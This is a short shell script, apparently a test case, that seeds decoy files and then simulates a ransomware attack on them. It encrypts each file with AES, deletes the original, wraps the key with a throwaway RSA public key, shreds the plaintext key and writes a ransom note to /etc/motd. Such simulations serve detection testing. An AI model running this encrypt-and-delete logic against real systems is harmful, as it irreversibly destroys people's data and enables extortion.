#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/home/anna /host/srv/db
for i in $(seq 1 25); do head -c 20000 /dev/urandom >/host/home/anna/doc$i.odt; head -c 30000 /dev/urandom >/host/srv/db/t$i.ibd; done
openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 2>/dev/null | openssl pkey -pubout >/tmp/pub
head -c 32 /dev/urandom | base64 >/tmp/key
find /host/home /host/srv -type f | while read -r f; do openssl enc -aes-256-ctr -pbkdf2 -iter 1 -kfile /tmp/key -in "$f" -out "$f.lockd" && rm "$f"; done
openssl pkeyutl -encrypt -pubin -inkey /tmp/pub -in /tmp/key -out /host/root/KEY.bin && shred -u /tmp/key
echo 'Your files are encrypted. Write to bait@example.org' >/host/etc/motd
test "$(find /host/home /host/srv -name '*.lockd' | wc -l)" = 50
took_place
